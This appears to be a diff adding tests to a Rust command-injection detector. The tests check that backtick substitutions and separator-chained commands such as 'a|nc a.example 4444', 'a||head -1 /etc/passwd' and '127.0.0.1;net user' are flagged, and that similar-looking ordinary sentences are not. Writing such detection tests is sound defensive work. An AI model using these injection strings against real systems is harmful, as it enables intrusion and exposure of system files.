@@ -22,6 +22,15 @@ fn finds(rule: &str, texts: &[&str]) {
     }
 }
 
+/// A word with a command at its end is no sentence, in a document or elsewhere.
+#[test]
+fn a_command_in_backquotes_at_the_end_of_a_word_is_put_in() {
+    let body = |text: &str| found_at(&ANALYZER, text.as_bytes(), PlaceKind::Body);
+    assert_eq!(body("a`id`"), ["run_and_replaced"]);
+    assert_eq!(body("127.0.0.1`sleep 5`"), ["run_and_replaced"]);
+    assert!(!body("run `id` first").contains(&"run_and_replaced"));
+}
+
 #[test]
 fn commands_behind_separators_and_in_substitutions_are_found() {
     finds(
@@ -48,6 +57,13 @@ fn commands_behind_separators_and_in_substitutions_are_found() {
             ";expr 1 + 1",
             "a|expr 268409241 - 2",
             "a;busybox id",
+            "|timeout 5",
+            "a|nc a.example 4444",
+            "a||head -1 /etc/passwd",
+            "1&&ps aux",
+            "127.0.0.1;net user",
+            "a;echo abc123",
+            "1&&echo abc123",
         ],
     );
     finds(
@@ -146,6 +162,11 @@ fn sentences_and_programs_of_other_kinds_are_not() {
         "id|name|date",
         "who? what? when?",
         "shutdown; reboot",
+        "bunny;echo park",
+        "Tom & ping pong",
+        "profit & net users",
+        "tea; timeout in sports",
+        "see; head -1 below",
         "a; expr 5",
         "sudo & env",
         "say \"cat\" twice",
